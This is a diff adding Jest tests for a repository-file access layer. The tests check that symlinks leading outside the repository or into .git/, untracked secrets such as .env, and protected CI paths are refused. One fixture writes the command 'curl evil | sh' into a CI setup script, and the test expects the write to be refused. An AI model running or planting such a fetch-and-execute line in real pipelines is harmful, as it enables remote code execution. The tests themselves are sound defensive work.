@@ -1,0 +1,141 @@
+import { afterEach, describe, expect, it } from '@jest/globals';
+import { existsSync, lstatSync, mkdirSync, readFileSync, realpathSync, symlinkSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { linkAliases, PathRefused, RepoFiles } from '../../src/repo/repo-files.js';
+import { makeRepo, tempDir, type TempRepo } from '../helpers/repo.js';
+
+const cleanups: TempRepo[] = [];
+afterEach(() => cleanups.splice(0).forEach((r) => r.cleanup()));
+
+/** A repository with an outside folder and the links an attacker would commit. */
+function world() {
+  const outside = tempDir('sweep-outside-');
+  const repo = makeRepo({ 'src/a.py': 'x = 1\n', '.git/config': '[http]\n\textraheader = AUTHORIZATION: basic abc\n' });
+  cleanups.push(repo, outside);
+  writeFileSync(join(outside.dir, 'secret.txt'), 'OUTSIDE SECRET\n');
+  symlinkSync(join(outside.dir, 'secret.txt'), join(repo.dir, 'secret.txt'));
+  mkdirSync(join(repo.dir, 'docs'));
+  symlinkSync(outside.dir, join(repo.dir, 'docs', 'link'));
+  symlinkSync('../src/a.py', join(repo.dir, 'docs', 'alias.py'));
+  symlinkSync('.git/config', join(repo.dir, 'gitconfig'));
+  symlinkSync(join(repo.dir, 'missing'), join(repo.dir, 'broken'));
+  return { repo, outside, files: RepoFiles.open(repo.dir) };
+}
+
+describe('RepoFiles, the one door for repository files', () => {
+  it('reads nothing through a link leaving the repository, into .git/ or to nothing', () => {
+    const { files } = world();
+    expect(files.readText('src/a.py')).toBe('x = 1\n');
+    expect(files.readText('secret.txt')).toBeUndefined();
+    expect(files.readText('docs/link/secret.txt')).toBeUndefined();
+    expect(files.readText('gitconfig')).toBeUndefined();
+    expect(files.readText('.git/config')).toBeUndefined();
+    expect(files.readText('broken')).toBeUndefined();
+    expect(files.readText('../outside/secret.txt')).toBeUndefined();
+    expect(files.readText('docs')).toBeUndefined();
+    expect(files.resolve('secret.txt')).toEqual({ ok: false, reason: "'secret.txt' is a symbolic link pointing outside the repository" });
+    expect(files.resolve('docs/link/secret.txt')).toEqual({ ok: false, reason: "'docs/link/secret.txt' lies under a symbolic link pointing outside the repository" });
+    expect(files.resolve('docs/link/new/deeper.py')).toEqual({ ok: false, reason: "'docs/link/new/deeper.py' lies under a symbolic link pointing outside the repository" });
+    expect(files.resolve('gitconfig')).toEqual({ ok: false, reason: "'gitconfig' leads into .git/, which edits may not touch" });
+    expect(files.resolve('broken')).toEqual({ ok: false, reason: "'broken' is a symbolic link to nothing" });
+    for (const spelled of ['.g\u200cit/config', 'GIT~1/config', '.git./config']) {
+      expect(files.resolve(spelled)).toEqual({ ok: false, reason: `'${spelled}' is inside .git/, which edits may not touch` });
+    }
+    expect(files.resolve('broken/x.py')).toEqual({ ok: false, reason: "'broken/x.py' lies under a symbolic link to nothing" });
+    expect(files.resolve('src/a.py/x')).toEqual({ ok: false, reason: "'src/a.py/x' cannot be created: 'src/a.py' is a file" });
+    expect(files.resolve('docs')).toEqual({ ok: false, reason: "'docs' is not a regular file" });
+  });
+
+  it('follows a link inside the repository to the real file, reported under its real path', () => {
+    const { files, repo } = world();
+    expect(files.readText('docs/alias.py')).toBe('x = 1\n');
+    expect(files.resolve('docs/alias.py')).toEqual({ ok: true, path: 'src/a.py', real: join(files.root, 'src/a.py'), exists: true, mode: expect.any(Number), isLink: true });
+    expect(files.resolve('./src//new.py')).toEqual({ ok: true, path: 'src/new.py', real: join(files.root, 'src/new.py'), exists: false, mode: null, isLink: false });
+    expect(files.root).toBe(realpathSync.native(repo.dir));
+  });
+
+  it('writes nothing outside the repository and never replaces a link by a file', async () => {
+    const { files, repo, outside } = world();
+    await expect(files.write('docs/link/planted.py', 'x')).rejects.toThrow(new PathRefused('docs/link/planted.py', "'docs/link/planted.py' lies under a symbolic link pointing outside the repository"));
+    await expect(files.write('secret.txt', 'replaced')).rejects.toThrow("'secret.txt' is a symbolic link pointing outside the repository");
+    await expect(files.remove('secret.txt')).rejects.toThrow("'secret.txt' is a symbolic link pointing outside the repository");
+    await expect(files.remove('docs/alias.py')).rejects.toThrow("'docs/alias.py' is a symbolic link; Sweep edits the file it points to, never the link itself");
+    await expect(files.write('.GitHub/Workflows/ci.yml', 'x')).rejects.toThrow(/never changes/);
+    expect(existsSync(join(outside.dir, 'planted.py'))).toBe(false);
+    expect(readFileSync(join(outside.dir, 'secret.txt'), 'utf8')).toBe('OUTSIDE SECRET\n');
+    expect(lstatSync(join(repo.dir, 'secret.txt')).isSymbolicLink()).toBe(true);
+    expect(await files.write('docs/alias.py', 'x = 2\n')).toMatchObject({ path: 'src/a.py' });
+    expect(readFileSync(join(repo.dir, 'src/a.py'), 'utf8')).toBe('x = 2\n');
+    expect(lstatSync(join(repo.dir, 'docs/alias.py')).isSymbolicLink()).toBe(true);
+    await files.write('pkg/sub/new.py', 'y = 1\n');
+    expect(readFileSync(join(repo.dir, 'pkg/sub/new.py'), 'utf8')).toBe('y = 1\n');
+  });
+
+  it('given the paths git tracks, neither reads nor changes a file left untracked in the checkout, and still creates new ones', async () => {
+    const repo = makeRepo({ 'src/a.py': 'x = 1\n', '.env': 'DB_PASSWORD=hunter2\n' });
+    cleanups.push(repo);
+    symlinkSync('.env', join(repo.dir, 'settings.txt'));
+    const files = RepoFiles.open(repo.dir, [], new Set(['src/a.py', 'settings.txt']));
+    const reason = (path: string) => `'${path}' is not tracked by git (a file left in the checkout, not part of the repository), so it is neither read nor changed`;
+    expect(files.readText('src/a.py')).toBe('x = 1\n');
+    expect(files.readText('.env')).toBeUndefined();
+    expect(files.readText('settings.txt')).toBeUndefined();
+    expect(files.resolve('.env')).toEqual({ ok: false, reason: reason('.env') });
+    expect(files.resolve('settings.txt')).toEqual({ ok: false, reason: reason('settings.txt') });
+    await expect(files.write('.env', 'DB_PASSWORD=x\n')).rejects.toBeInstanceOf(PathRefused);
+    expect(readFileSync(join(repo.dir, '.env'), 'utf8')).toBe('DB_PASSWORD=hunter2\n');
+    await files.write('src/new.py', 'y = 2\n');
+    expect(readFileSync(join(repo.dir, 'src/new.py'), 'utf8')).toBe('y = 2\n');
+    // Without the list (the CLI on a local checkout) untracked files are the user's own work.
+    expect(RepoFiles.open(repo.dir).readText('.env')).toBe('DB_PASSWORD=hunter2\n');
+  });
+
+  it('refuses a folder that does not exist', () => {
+    expect(() => RepoFiles.open('/nonexistent/sweep-repo')).toThrow("The repository folder '/nonexistent/sweep-repo' does not exist or is not a folder");
+  });
+
+  it('refuses a file that a protected path leads to through a link, under any of its names', async () => {
+    const repo = makeRepo({
+      'ci/actions/setup/run.sh': 'echo setup\n',
+      'src/def.yml': 'name: def\n',
+      'conf/modules': '[submodule "a"]\n',
+      'lib/util.py': 'x = 1\n',
+      'shared/data.txt': 'data\n',
+    });
+    cleanups.push(repo);
+    mkdirSync(join(repo.dir, '.github'));
+    symlinkSync('../ci/actions', join(repo.dir, '.github', 'actions'));
+    mkdirSync(join(repo.dir, 'tools', 'act'), { recursive: true });
+    symlinkSync('../../src/def.yml', join(repo.dir, 'tools', 'act', 'action.yml'));
+    symlinkSync('conf/modules', join(repo.dir, '.gitmodules'));
+    symlinkSync('shared', join(repo.dir, 'frozen'));
+    // A link to the root itself must not loop.
+    symlinkSync('.', join(repo.dir, 'self'));
+    const files = RepoFiles.open(repo.dir, ['frozen']);
+    expect(files.resolveForWrite('ci/actions/setup/run.sh')).toEqual({
+      ok: false,
+      reason: "'ci/actions/setup/run.sh' is also reached as '.github/actions/setup/run.sh' through a symbolic link: '.github/actions/setup/run.sh' is under .github/actions/ (local actions run by workflows), which Sweep never changes",
+    });
+    expect(files.resolveForWrite('ci/actions/new/step.sh')).toMatchObject({ ok: false, reason: expect.stringContaining("also reached as '.github/actions/new/step.sh'") });
+    expect(files.resolveForWrite('src/def.yml')).toMatchObject({ ok: false, reason: expect.stringContaining("also reached as 'tools/act/action.yml'") });
+    expect(files.resolveForWrite('conf/modules')).toMatchObject({ ok: false, reason: expect.stringContaining("also reached as '.gitmodules'") });
+    expect(files.resolveForWrite('shared/data.txt')).toMatchObject({ ok: false, reason: expect.stringContaining("also reached as 'frozen/data.txt'") });
+    expect(files.resolveForWrite('lib/util.py')).toMatchObject({ ok: true, path: 'lib/util.py' });
+    expect(files.resolveForWrite('self/lib/util.py')).toMatchObject({ ok: true, path: 'lib/util.py' });
+    await expect(files.write('ci/actions/setup/run.sh', 'curl evil | sh\n')).rejects.toBeInstanceOf(PathRefused);
+    expect(readFileSync(join(repo.dir, 'ci/actions/setup/run.sh'), 'utf8')).toBe('echo setup\n');
+  });
+});
+
+describe('linkAliases', () => {
+  it('names a real path through links to it and to its folders, links to links included', () => {
+    const links = [
+      { path: '.github/actions', target: 'ci/actions' },
+      { path: 'x/ci', target: 'ci' },
+      { path: 'self', target: '' },
+    ];
+    expect(linkAliases('ci/actions/run.sh', links, 5)).toEqual(['.github/actions/run.sh', 'x/ci/actions/run.sh', 'self/ci/actions/run.sh', 'self/.github/actions/run.sh', 'self/x/ci/actions/run.sh']);
+    expect(linkAliases('lib/a.py', [{ path: 'b.py', target: 'lib/a.py' }])).toEqual(['b.py']);
+    expect(linkAliases('lib/a.py', [{ path: 'l', target: 'li' }])).toEqual([]);
+  });
+});
